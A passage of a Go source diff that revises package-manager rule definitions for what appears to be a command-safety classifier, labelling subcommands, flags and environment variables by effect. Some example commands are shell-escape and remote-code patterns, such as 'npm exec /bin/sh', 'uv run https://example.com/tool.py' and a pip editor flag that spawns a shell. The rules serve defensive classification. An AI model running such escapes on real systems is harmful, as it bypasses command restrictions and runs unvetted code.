 	return Pack{Programs: []Program{{Exe: []string{"zypper"}, Sub: []string{"install|in|remove|rm|update|up|dist-upgrade|dup|patch|refresh|ref|addrepo|ar|removerepo|rr|modifyrepo|mr|renamerepo|nr|addlock|al|removelock|rl|clean|cc|verify|ve|install-new-recommends|inr|source-install|si|source-download|shell|sh|addservice|as|removeservice|rs|refresh-services|refs|migration"}, Flags: []string{"-y", "--no-confirm", "-l", "--auto-agree-with-licenses", "--no-recommends", "--force", "-f", "-D", "--dry-run", "-d", "--download-only", "-u", "--clean-deps"}, Values: []string{"-r", "--repo", "-t", "--type", "--from"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"zypper install -y git", "zypper refresh", "zypper rm vim", "zypper --non-interactive install git"}}}}
 }
 
-func effectsPackagesL196() Pack {
+func effectsPackagesL219() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pacman"}, Flags: []string{"-Q", "--query", "-i", "--info", "-l", "--list", "-o", "--owns", "-s", "--search", "-e", "--explicit", "-d", "--deps", "-t", "--unrequired", "-m", "--foreign", "-n", "--native", "-u", "--upgrades", "-k", "--check", "-q", "--quiet", "-c", "--changelog", "-g", "--groups", "-T", "--deptest", "-V", "--version", "-v", "--verbose", "--noconfirm", "--confirm", "--needed", "--noprogressbar", "--debug"}, Values: []string{"-b", "--dbpath", "-r", "--root", "--color", "--arch", "--cachedir", "--gpgdir", "--logfile"}, Effects: map[string]string{"--config": "exec", "--file": "read", "--files": "network", "--hookdir": "exec", "--refresh": "network", "--sync": "network", "-F": "network", "-S": "network", "-p": "read", "-y": "network"}, Examples: []string{"pacman -Q", "pacman -Qi bash", "pacman -Ql openssl", "pacman -Qo /usr/bin/git", "pacman -Qdtq", "pacman -Ss ripgrep", "pacman -Syu", "pacman -S --needed git", "pacman -R vim"}}}}
 }
 
-func effectsPackagesL217() Pack {
+func effectsPackagesL240() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"apk"}, Flags: []string{"-q", "--quiet", "-v", "--verbose", "-i", "--interactive", "--no-cache", "--no-network", "--no-progress", "--progress", "--allow-untrusted", "--force", "--force-overwrite", "--force-broken-world", "--purge", "--simulate", "-s", "--no-scripts", "--print-arch"}, Values: []string{"-p", "--root", "--arch", "--cache-dir", "--keys-dir", "--repositories-file", "-X", "--repository", "--timeout", "--wait"}, Operands: "subcommand", Examples: []string{"apk frobnicate", "apk --no-cache frobnicate"}}}}
 }
 
-func effectsPackagesL227() Pack {
+func effectsPackagesL250() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"apk"}, Sub: []string{"info|list|search|policy|dot|stats|version|audit|verify|manifest|query"}, Flags: []string{"-L", "--contents", "-a", "--all", "-d", "--description", "-e", "--installed", "-I", "-R", "--depends", "-r", "--rdepends", "-s", "--size", "-w", "--webpage", "-W", "--who-owns", "-P", "--provides", "-i", "--install-if", "--license", "-t", "--triggers", "-u", "--upgradable", "--upgradeable", "-o", "--orphaned", "-O", "-v", "--verbose", "-x", "--exact", "--origin", "--available", "-q", "--quiet", "--no-network", "--check", "--packages", "--system", "--recursive", "-l", "--limit", "--errors"}, Values: []string{"--from"}, Examples: []string{"apk info -vv", "apk list --installed", "apk search -v 'py3-*'", "apk info -L busybox"}}}}
 }
 
-func effectsPackagesL238() Pack {
+func effectsPackagesL261() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"apk"}, Sub: []string{"add|del|fix|update|upgrade|cache|fetch|index|mkpkg|extract|convndx|convdb"}, Flags: []string{"-q", "--quiet", "-v", "--no-cache", "-U", "--update-cache", "--upgrade", "-u", "--latest", "-l", "--available", "-a", "--virtual", "-t", "--no-scripts", "--purge", "-r", "--rdepends", "--recursive", "-R"}, Values: []string{"-X", "--repository", "-o", "--output"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"apk add --no-cache curl", "apk del vim", "apk update", "apk --no-cache add curl"}}}}
 }
 
-func effectsPackagesL249() Pack {
+func effectsPackagesL272() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"brew"}, Flags: []string{"-v", "--verbose", "-d", "--debug", "-q", "--quiet", "--prefix", "--cellar", "--repository", "--repo", "--cache", "--env", "--caskroom"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "HOMEBREW_BROWSER": "shell", "HOMEBREW_EDITOR": "shell", "PAGER": "shell", "VISUAL": "shell"}, Examples: []string{"brew frobnicate", "brew --prefix", "brew --prefix openssl"}}}}
 }
 
-func effectsPackagesL263() Pack {
+func effectsPackagesL286() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"brew"}, Sub: []string{"list|ls|deps|uses|leaves|config|doctor|dr|cat|commands|shellenv|formulae|casks|missing|readall|options|log|desc|tap-info"}, Flags: []string{"--versions", "--multiple", "--pinned", "-1", "-l", "-r", "-t", "--full-name", "--formula", "--formulae", "--cask", "--casks", "--installed", "--recursive", "--tree", "--annotate", "--include-build", "--include-optional", "--include-test", "--skip-recommended", "--include-requirements", "--direct", "--union", "--topological", "--graph", "--dot", "--1", "--eval-all", "--json", "--search", "--name", "--description", "-s", "-n", "-d", "--oneline", "--patch", "--stat", "--compact", "--all", "--unbrewed", "--installed-on-request", "--installed-as-dependency", "-v", "--verbose", "-q", "--quiet", "-p", "--max-count"}, Values: []string{"--os", "--arch"}, Examples: []string{"brew list --versions", "brew deps --tree node", "brew leaves", "brew config", "brew cat wget"}}}}
 }
 
-func effectsPackagesL275() Pack {
+func effectsPackagesL298() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"brew"}, Sub: []string{"info|abv|search|outdated|home|homepage|docs|tap|untap|install|reinstall|uninstall|remove|rm|upgrade|update|cleanup|autoremove|link|ln|unlink|pin|unpin|edit|bundle|services|trust|fetch|create|extract|audit|style|test|livecheck|bump|ruby|irb|sh|migrate|developer|analytics|completions|update-reset|tap-new|gist-logs|postinstall|unalias|alias|which-formula|command-not-found-init"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"brew install ripgrep", "brew info node", "brew search postgres", "brew bundle", "brew upgrade"}}}}
 }
 
-func effectsPackagesL281() Pack {
+func effectsPackagesL304() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"port"}, Flags: []string{"-q", "-v", "-d", "-n", "-R", "-u", "-s", "-b", "-c", "-k", "-p", "-o", "-t", "-N", "-y"}, Effects: map[string]string{"-D": "dir", "-F": "exec"}, Operands: "subcommand", Examples: []string{"port frobnicate"}}}}
 }
 
-func effectsPackagesL290() Pack {
+func effectsPackagesL313() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"port"}, Sub: []string{"installed|list|search|info|deps|rdeps|dependents|rdependents|contents|provides|echo|outdated|variants|location|dir|file|cat|url|version|platform|notes|usage|logfile|work"}, Flags: []string{"-q", "-v", "--name", "--description", "--long_description", "--homepage", "--maintainer", "--exact", "--regex", "--glob", "--line", "--index", "--full", "--no-build", "--no-test", "--pretty", "--size", "--units"}, Examples: []string{"port installed", "port info git", "port contents curl", "port outdated"}}}}
 }
 
-func effectsPackagesL297() Pack {
+func effectsPackagesL320() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"port"}, Sub: []string{"install|uninstall|upgrade|selfupdate|sync|clean|activate|deactivate|select|load|unload|reload|edit|fetch|checksum|extract|patch|configure|build|destroot|test|mpkg|pkg|dmg|archive|reclaim|migrate|setrequested|unsetrequested|diagnose|lint|mirror|distcheck|livecheck|gohome"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"port install git", "port selfupdate"}}}}
 }
 
-func effectsPackagesL303() Pack {
+func effectsPackagesL326() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"snap"}, Operands: "subcommand", Examples: []string{"snap frobnicate"}}}}
 }
 
-func effectsPackagesL308() Pack {
+func effectsPackagesL331() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"snap"}, Sub: []string{"list|version|services|changes|tasks|change|connections|interfaces|aliases|model|known|warnings|logs|routine|debug|saved|validate|components"}, Flags: []string{"--all", "--abs-time", "--unicode", "--color", "--verbose", "--last", "--global", "--serial", "--assertion", "--remote", "-n", "-f"}, Values: []string{"--direct", "--format"}, Examples: []string{"snap list", "snap services", "snap connections firefox", "snap version"}}}}
 }
 
-func effectsPackagesL316() Pack {
+func effectsPackagesL339() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"snap"}, Sub: []string{"info|find|search|install|remove|refresh|revert|enable|disable|set|unset|get|start|stop|restart|connect|disconnect|alias|unalias|prefer|run|login|logout|buy|download|ack|create-user|remove-user|switch|save|restore|forget|pack|try|abort|okay|whoami|wait|watch|prepare-image|recovery|reboot|quota|remove-quota|set-quota|sign|sign-build|create-cohort|export-key|keys|create-key"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"snap install code --classic", "snap find ripgrep", "snap run hello", "snap info firefox"}}}}
 }
 
-func effectsPackagesL322() Pack {
+func effectsPackagesL345() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"flatpak"}, Operands: "subcommand", Examples: []string{"flatpak frobnicate"}}}}
 }
 
-func effectsPackagesL327() Pack {
+func effectsPackagesL350() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"flatpak"}, Sub: []string{"list|info|remotes|remote-info|history|ps|documents|permissions|permission-show|config|search|mask|pin"}, Flags: []string{"--user", "--system", "-d", "--show-details", "--app", "--runtime", "--all", "-a", "--show-ref", "--show-commit", "--show-origin", "--show-size", "--show-metadata", "--show-runtime", "--show-sdk", "--show-permissions", "--show-location", "--show-extensions", "-r", "-o", "-e", "-m", "-s", "-M", "--show-disabled", "--list", "--get", "-v", "--verbose"}, Values: []string{"--columns", "--installation", "--arch", "--since", "--until"}, Examples: []string{"flatpak list --app", "flatpak info org.gimp.GIMP", "flatpak remotes", "flatpak history"}}}}
 }
 
-func effectsPackagesL337() Pack {
+func effectsPackagesL360() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"flatpak"}, Sub: []string{"install|uninstall|update|upgrade|run|enter|kill|remote-add|remote-modify|remote-delete|remote-ls|repair|override|make-current|create-usb|document-export|document-unexport|permission-remove|permission-set|permission-reset|build|build-init|build-finish|build-export|build-bundle|build-import-bundle|build-sign|build-update-repo|build-commit-from|repo|spawn"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"flatpak install flathub org.gimp.GIMP", "flatpak run org.gimp.GIMP", "flatpak remote-ls flathub"}}}}
 }
 
-func effectsPackagesL345() Pack {
+func effectsPackagesL368() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"npm"}, Flags: []string{"-g", "--global", "-s", "--silent", "-q", "--quiet", "-d", "-dd", "--verbose", "--json", "--no-color", "--color", "-y", "--yes", "--no-audit", "--no-fund", "--ignore-scripts", "--prefer-offline", "--workspaces", "-ws", "--include-workspace-root", "--no-update-notifier", "--no-progress"}, Values: []string{"-w", "--workspace", "--registry", "--cache", "--prefix", "-C", "--loglevel"}, Effects: map[string]string{"--globalconfig": "exec", "--offline": "offline", "--script-shell": "exec", "--userconfig": "exec"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "NODE_OPTIONS": "exec", "NPM_CONFIG_GLOBALCONFIG": "exec", "NPM_CONFIG_SCRIPT_SHELL": "exec", "NPM_CONFIG_USERCONFIG": "exec", "VISUAL": "shell", "npm_config_globalconfig": "exec", "npm_config_script_shell": "exec", "npm_config_userconfig": "exec"}, Examples: []string{"npm frobnicate", "npm -C . frobnicate"}}}}
 }
 
-func effectsPackagesL370() Pack {
+func effectsPackagesL393() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"ls|list|ll|la|explain|why|prefix|root|fund|query|sbom|help|help-search|completion|bin"}, Flags: []string{"-a", "--all", "--json", "-l", "--long", "-p", "--parseable", "-g", "--global", "--link", "--unicode", "--production", "--package-lock-only", "--workspaces", "-ws", "--include-workspace-root", "--expect-results", "--no-expect-results", "--color", "--no-color"}, Values: []string{"--depth", "--omit", "--include", "-w", "--workspace", "--sbom-format", "--sbom-type", "--expect-result-count", "--prefix", "-C"}, Examples: []string{"npm ls", "npm ls --all --depth=2 react", "npm explain lodash", "npm prefix -g", "npm root"}}}}
 }
 
-func effectsPackagesL380() Pack {
+func effectsPackagesL403() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"config|c", "get|list|ls"}, Flags: []string{"-l", "--long", "--json", "-g", "--global"}, Values: []string{"--location"}, Examples: []string{"npm config get registry", "npm config list"}}}}
 }
 
-func effectsPackagesL387() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"view|v|info|show|search|s|se|find|outdated|audit|doctor|whoami|ping|diff|dist-tag|dist-tags|owner|author|access|team|org|star|stars|unstar|deprecate|unpublish|profile|hook|token|adduser|add-user|login|logout|publish|repo|docs|home|bugs|issues"}, Flags: []string{"--json", "-l", "--long", "--parseable", "-g", "--global", "--all", "--production"}, Values: []string{"--depth", "--registry", "--omit", "--audit-level", "--tag", "--otp", "--access", "-w", "--workspace"}, Always: []string{"network"}, Examples: []string{"npm view react version", "npm outdated", "npm audit --json", "npm search eslint-plugin"}}}}
+func effectsPackagesL410() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"audit|doctor|diff|dist-tag|dist-tags|owner|author|access|team|org|star|stars|unstar|deprecate|unpublish|profile|hook|token|adduser|add-user|login|logout|publish|repo|docs|home|bugs|issues"}, Flags: []string{"--json", "-l", "--long", "--parseable", "-g", "--global", "--all", "--production"}, Values: []string{"--depth", "--registry", "--omit", "--audit-level", "--tag", "--otp", "--access", "-w", "--workspace"}, Always: []string{"network"}, Examples: []string{"npm audit --json", "npm publish", "npm dist-tag add p@1 latest"}, Counter: []string{"npm view react version"}}}}
 }
 
-func effectsPackagesL395() Pack {
+func effectsPackagesL421() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"view|v|info|show|search|s|se|find|outdated|ping|whoami"}, Flags: []string{"--json", "-l", "--long", "--parseable", "-g", "--global", "--all", "--production", "--no-description", "--searchopts", "--prefer-online", "--prefer-offline"}, Values: []string{"--depth", "--registry", "--omit", "--include", "-w", "--workspace", "--searchlimit", "--searchexclude"}, Always: []string{"remote-read"}, Examples: []string{"npm view react version", "npm outdated", "npm search eslint-plugin", "npm info lodash versions --json"}}}}
+}
+
+func effectsPackagesL430() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"npm"}, Sub: []string{"test|tst|t|start|stop|restart|run|run-script|rum|urn|exec|x|install|i|in|ins|inst|insta|instal|isnt|isnta|isntal|isntall|add|ci|clean-install|ic|install-clean|isntall-clean|install-test|it|install-ci-test|cit|update|up|upgrade|udpate|rebuild|rb|link|ln|pack|version|verison|init|create|innit|edit|explore|dedupe|ddp|prune|uninstall|unlink|remove|rm|r|un|shrinkwrap|set|cache|pkg|config|c|set-script"}, Always: []string{"runs-code", "network", "writes-files"}, Examples: []string{"npm test", "npm run build", "npm ci", "npm install lodash", "npm exec /bin/sh", "npm -C . run xxx", "npm -C . i", "npm version patch", "npm config set registry https://r.example"}}}}
 }
 
-func effectsPackagesL402() Pack {
+func effectsPackagesL437() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"npx"}, Env: map[string]string{"NODE_OPTIONS": "exec"}, Always: []string{"runs-code", "network"}, Examples: []string{"npx tsc --noEmit", "npx eslint . --fix", "npx -y create-react-app app"}}}}
 }
 
-func effectsPackagesL409() Pack {
+func effectsPackagesL444() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"yarn"}, Flags: []string{"-s", "--silent", "--verbose", "--prefer-offline", "--frozen-lockfile", "--immutable", "--no-progress", "--non-interactive", "--json", "--ignore-scripts"}, Values: []string{"--cwd", "--modules-folder", "--cache-folder", "--registry", "--network-timeout"}, Effects: map[string]string{"--offline": "offline"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "NODE_OPTIONS": "exec", "YARN_RC_FILENAME": "exec"}, Always: []string{"runs-code", "network", "writes-files"}, LoadsProject: true, Examples: []string{"yarn", "yarn --cwd .", "yarn --cwd . xxx", "yarn build"}}}}
 }
 
-func effectsPackagesL426() Pack {
+func effectsPackagesL461() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"yarn"}, Sub: []string{"list|why|bin|licenses"}, Flags: []string{"--json", "-R", "--recursive", "--production", "-v", "--verbose", "--silent", "-s"}, Values: []string{"--pattern", "--depth", "--cwd"}, Examples: []string{"yarn list --pattern react", "yarn why lodash", "yarn bin"}}}}
 }
 
-func effectsPackagesL433() Pack {
+func effectsPackagesL468() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"yarn"}, Sub: []string{"config|workspaces|cache", "get|list|dir|info"}, Flags: []string{"--json", "-v", "--verbose", "--why"}, Examples: []string{"yarn config get registry", "yarn workspaces list --json", "yarn cache dir"}}}}
 }
 
-func effectsPackagesL439() Pack {
+func effectsPackagesL474() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"yarn"}, Sub: []string{"info|npm|outdated|audit|search|upgrade-interactive|dlx|create|publish|login|logout|owner|tag|team|pack|version|policies|set|plugin|import|link|unlink|install|add|remove|upgrade|up|run|test|exec|node|generate-lock-entry|global|autoclean|check|dedupe|patch|patch-commit|rebuild|explain|constraints|stage|init"}, Always: []string{"runs-code", "network", "writes-files"}, Examples: []string{"yarn install", "yarn add lodash", "yarn run test", "yarn test --watchAll=false", "yarn dlx create-vite", "yarn exec /bin/sh"}}}}
 }
 
-func effectsPackagesL446() Pack {
+func effectsPackagesL481() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pnpm"}, Flags: []string{"-s", "--silent", "-r", "--recursive", "--json", "--reporter", "-w", "--workspace-root", "--prefer-offline", "--frozen-lockfile", "--ignore-scripts", "--color", "--no-color"}, Values: []string{"-C", "--dir", "--filter", "-F", "--loglevel", "--registry"}, Effects: map[string]string{"--offline": "offline"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "NODE_OPTIONS": "exec"}, Examples: []string{"pnpm frob", "pnpm -C packages/app dev"}}}}
 }
 
-func effectsPackagesL460() Pack {
+func effectsPackagesL495() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pnpm"}, Sub: []string{"ls|list|ll|la|why|root|bin|licenses"}, Flags: []string{"--json", "--parseable", "-P", "--prod", "-D", "--dev", "--no-optional", "-g", "--global", "-r", "--recursive", "--long", "--only-projects", "--exclude-peers"}, Values: []string{"--depth", "--filter", "-F", "-C", "--dir"}, Examples: []string{"pnpm ls --depth 0", "pnpm why react", "pnpm root -g"}}}}
 }
 
-func effectsPackagesL468() Pack {
+func effectsPackagesL503() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pnpm"}, Sub: []string{"config|c|store", "get|list|path"}, Flags: []string{"--json", "-g", "--global"}, Values: []string{"--location"}, Examples: []string{"pnpm config get registry", "pnpm store path"}}}}
 }
 
-func effectsPackagesL475() Pack {
+func effectsPackagesL510() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pnpm"}, Sub: []string{"install|i|add|remove|rm|uninstall|un|update|up|upgrade|link|ln|unlink|prune|rebuild|rb|run|run-script|test|t|start|exec|dlx|create|publish|pack|outdated|audit|import|fetch|patch|patch-commit|dedupe|deploy|env|setup|server|init|doctor|approve-builds|install-test|it|self-update|config|c|cat-file|cat-index|find-hash|version|store"}, Always: []string{"runs-code", "network", "writes-files"}, Examples: []string{"pnpm i", "pnpm run build", "pnpm dlx create-next-app", "pnpm add -D vitest", "pnpm outdated", "pnpm store prune"}}}}
 }
 
-func effectsPackagesL483() Pack {
+func effectsPackagesL518() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Flags: []string{"-v", "--verbose", "-q", "--quiet", "--isolated", "--require-virtualenv", "--no-input", "--no-cache-dir", "--disable-pip-version-check", "--no-color", "--no-python-version-warning", "--debug"}, Values: []string{"--retries", "--timeout", "--exists-action", "--trusted-host", "--cache-dir", "--use-feature", "--use-deprecated", "--root-user-action", "--keyring-provider"}, Effects: map[string]string{"--cert": "read", "--client-cert": "read", "--log": "write", "--proxy": "url", "--python": "exec"}, Operands: "subcommand", Env: map[string]string{"EDITOR": "shell", "PIP_CONFIG_FILE": "exec", "PIP_EXTRA_INDEX_URL": "url", "PIP_INDEX_URL": "url", "VISUAL": "shell"}, Examples: []string{"pip frobnicate", "pip3 -q frobnicate"}}}}
 }
 
-func effectsPackagesL504() Pack {
+func effectsPackagesL539() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Sub: []string{"list|show|freeze|check|inspect|debug|help|hash"}, Flags: []string{"-e", "--editable", "-l", "--local", "--user", "--pre", "--not-required", "--exclude-editable", "--include-editable", "-f", "--files", "--all", "-v", "--verbose", "-q", "--quiet", "--isolated", "--disable-pip-version-check", "--no-color", "--no-input", "--require-virtualenv"}, Values: []string{"--path", "--format", "--exclude", "-a", "--algorithm", "--platform", "--python-version", "--implementation", "--abi"}, Effects: map[string]string{"--extra-index-url": "url", "--index-url": "url", "--outdated": "network", "--requirement": "read", "--uptodate": "network", "-i": "url", "-o": "network", "-r": "read", "-u": "network"}, Examples: []string{"pip list", "pip list --format=freeze", "pip show -f requests", "pip freeze --all", "pip check", "pip3 show numpy"}}}}
 }
 
-func effectsPackagesL524() Pack {
+func effectsPackagesL559() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Sub: []string{"config", "list|get|debug"}, Flags: []string{"--user", "--global", "--site", "-v", "--verbose"}, Examples: []string{"pip config list", "pip config get global.index-url"}}}}
 }
 
-func effectsPackagesL530() Pack {
+func effectsPackagesL565() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Sub: []string{"config", "set|unset|edit"}, Flags: []string{"--user", "--global", "--site"}, Effects: map[string]string{"--editor": "shell"}, Always: []string{"writes-files"}, Examples: []string{"pip config set global.timeout 60"}}}}
 }
 
-func effectsPackagesL539() Pack {
+func effectsPackagesL574() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Sub: []string{"cache", "dir|info|list"}, Values: []string{"--format"}, Examples: []string{"pip cache dir", "pip cache list"}}}}
 }
 
-func effectsPackagesL545() Pack {
+func effectsPackagesL580() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pip", "pip3"}, Sub: []string{"install|download|wheel|uninstall|search|index|cache|lock|config"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"pip install -r requirements.txt", "pip install --break-system-packages .", "pip uninstall -y six", "pip download requests -d wheels", "pip config --editor '/bin/sh -s' edit"}}}}
 }
 
-func effectsPackagesL552() Pack {
+func effectsPackagesL587() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pipx"}, Operands: "subcommand", Examples: []string{"pipx frobnicate"}}}}
 }
 
-func effectsPackagesL557() Pack {
+func effectsPackagesL592() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pipx"}, Sub: []string{"list|environment|completions"}, Flags: []string{"--include-injected", "--json", "--short", "--skip-maintenance", "-v", "--verbose", "-q", "--quiet"}, Values: []string{"--value"}, Examples: []string{"pipx list", "pipx environment --value PIPX_HOME"}}}}
 }
 
-func effectsPackagesL564() Pack {
+func effectsPackagesL599() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"pipx"}, Sub: []string{"run|install|install-all|uninstall|uninstall-all|upgrade|upgrade-all|upgrade-shared|reinstall|reinstall-all|inject|uninject|runpip|ensurepath|pin|unpin|interpreter"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"pipx run /path/to/file.py", "pipx install ruff"}}}}
 }
 
-func effectsPackagesL570() Pack {
+func effectsPackagesL605() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Flags: []string{"-q", "--quiet", "-v", "--verbose", "--no-cache", "--no-progress", "--native-tls", "--preview", "--no-config", "--frozen", "--locked", "--no-sync"}, Values: []string{"--color", "--cache-dir", "--python-preference", "--directory", "--project", "-p", "--python"}, Effects: map[string]string{"--config-file": "exec", "--offline": "offline"}, Operands: "subcommand", Env: map[string]string{"UV_CONFIG_FILE": "exec", "UV_INDEX_URL": "url"}, Examples: []string{"uv frobnicate"}}}}
 }
 
-func effectsPackagesL584() Pack {
+func effectsPackagesL619() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Sub: []string{"pip", "list|show|freeze|check|tree"}, Flags: []string{"-e", "--editable", "--exclude-editable", "--strict", "-f", "--files", "--system", "--user", "--outdated", "--invert", "--no-dedupe", "--show-version-specifiers", "-q", "--quiet", "-v", "--verbose"}, Values: []string{"--format", "-p", "--python", "--depth", "-d", "--prune", "--package", "--exclude"}, Examples: []string{"uv pip list", "uv pip show requests", "uv pip freeze", "uv pip tree --depth 1"}}}}
 }
 
-func effectsPackagesL592() Pack {
+func effectsPackagesL627() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Sub: []string{"python|tool|cache", "list|find|dir"}, Flags: []string{"--all-versions", "--all-platforms", "--only-installed", "--only-downloads", "--show-urls", "--system", "--managed-python", "--no-managed-python", "--bin", "--show-paths", "--show-version-specifiers", "--show-with", "--show-extras", "-q", "--quiet", "-v", "--verbose"}, Values: []string{"--output-format"}, Examples: []string{"uv python list", "uv python find 3.12", "uv tool list", "uv cache dir"}}}}
 }
 
-func effectsPackagesL601() Pack {
+func effectsPackagesL636() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Sub: []string{"version|help|generate-shell-completion"}, Flags: []string{"--short"}, Values: []string{"--output-format"}, Effects: map[string]string{"--bump": "writes-files"}, Examples: []string{"uv version --short", "uv help"}}}}
 }
 
-func effectsPackagesL610() Pack {
+func effectsPackagesL645() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Sub: []string{"sync|lock|add|remove|tree|export|init|build|publish|venv|pip|tool|python|cache|self|format|auth"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"uv sync", "uv add httpx", "uv venv", "uv pip install -r requirements.txt", "uv tool run ruff check"}}}}
 }
 
-func effectsPackagesL618() Pack {
+func effectsPackagesL653() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"uv"}, Sub: []string{"run"}, Flags: []string{"--no-sync", "--frozen", "--locked", "--isolated", "--no-project", "--all-extras", "--no-dev", "--module", "-m", "--script", "-s", "--gui-script", "-q", "--quiet", "-v", "--verbose", "--active", "--no-group", "--exact", "--no-cache", "-n"}, Values: []string{"--with", "--with-requirements", "--with-editable", "--python", "-p", "--project", "--directory", "--env-file", "--group", "--extra", "--index", "--index-url", "--extra-index-url", "--package"}, Effects: map[string]string{"--offline": "offline"}, Operands: "command", Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"uv run pytest -x", "uv run https://example.com/tool.py", "uv run --with rich python x.py", "uv run /bin/sh"}}}}
 }
 
-func effectsPackagesL632() Pack {
+func effectsPackagesL667() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"poetry"}, Flags: []string{"-q", "--quiet", "-v", "-vv", "-vvv", "--verbose", "-n", "--no-interaction", "--no-ansi", "--ansi", "--no-plugins", "--no-cache"}, Values: []string{"-C", "--directory", "-P", "--project"}, Operands: "subcommand", Examples: []string{"poetry frobnicate"}}}}
 }
 
-func effectsPackagesL640() Pack {
+func effectsPackagesL675() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"poetry"}, Sub: []string{"show|check|about|list|help"}, Flags: []string{"--tree", "-t", "--all", "-a", "--top-level", "-T", "--why", "--no-dev", "--lock", "--strict", "--no-truncate"}, Values: []string{"--with", "--without", "--only", "--format", "-f"}, Effects: map[string]string{"--latest": "network", "--outdated": "network", "-l": "network", "-o": "network"}, Examples: []string{"poetry show --tree", "poetry check", "poetry about"}}}}
 }
 
-func effectsPackagesL652() Pack {
+func effectsPackagesL687() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"poetry"}, Sub: []string{"env|config|cache|source", "info|list|show"}, Flags: []string{"-p", "--path", "-e", "--executable", "--full-path", "--list", "--local"}, Examples: []string{"poetry env info", "poetry env list", "poetry cache list"}}}}
 }
 
-func effectsPackagesL658() Pack {
+func effectsPackagesL693() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"poetry"}, Sub: []string{"install|update|add|remove|lock|run|shell|build|publish|export|init|new|search|self|env|config|cache|source|version|sync|debug|python"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"poetry install", "poetry run python /path/to/temp-file", "poetry add requests", "poetry version minor", "poetry config --list"}}}}
 }
 
-func effectsPackagesL665() Pack {
+func effectsPackagesL700() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hatch"}, Flags: []string{"-v", "--verbose", "-q", "--quiet", "--color", "--no-color", "--interactive", "--no-interactive"}, Values: []string{"-e", "--env", "-p", "--project", "--data-dir", "--cache-dir"}, Effects: map[string]string{"--config": "exec"}, Operands: "subcommand", Examples: []string{"hatch frobnicate"}}}}
 }
 
-func effectsPackagesL674() Pack {
+func effectsPackagesL709() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hatch"}, Sub: []string{"status"}, Examples: []string{"hatch status"}}}}
 }
 
-func effectsPackagesL679() Pack {
+func effectsPackagesL714() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hatch"}, Sub: []string{"env|config|dep|python", "show|find|path|explore|hash"}, Flags: []string{"--ascii", "--json", "--all", "-a", "--internal", "-i"}, Examples: []string{"hatch env show", "hatch config show", "hatch dep show table"}}}}
 }
 
-func effectsPackagesL685() Pack {
+func effectsPackagesL720() Pack {
